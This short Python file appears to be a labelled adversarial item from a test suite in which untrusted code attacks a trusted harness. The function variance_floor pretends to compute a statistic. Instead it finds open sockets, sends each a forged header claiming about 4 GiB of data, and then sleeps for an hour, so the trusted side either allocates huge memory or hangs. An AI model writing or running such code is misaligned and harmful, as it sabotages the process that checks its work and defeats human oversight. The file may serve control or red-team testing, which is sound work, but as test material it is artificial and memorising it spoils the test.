# class: wire
# tries: a header that promises 4 GiB makes the trusted side allocate or wait for ever
# honest: variance_floor=0
# %% exercise="variance_floor"
import os, stat, struct, time

def variance_floor(x):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", 0xFFFFFFF0, 0xFFFFFFF0) + b"[" * 4096)
        except OSError:
            pass
    time.sleep(3600)
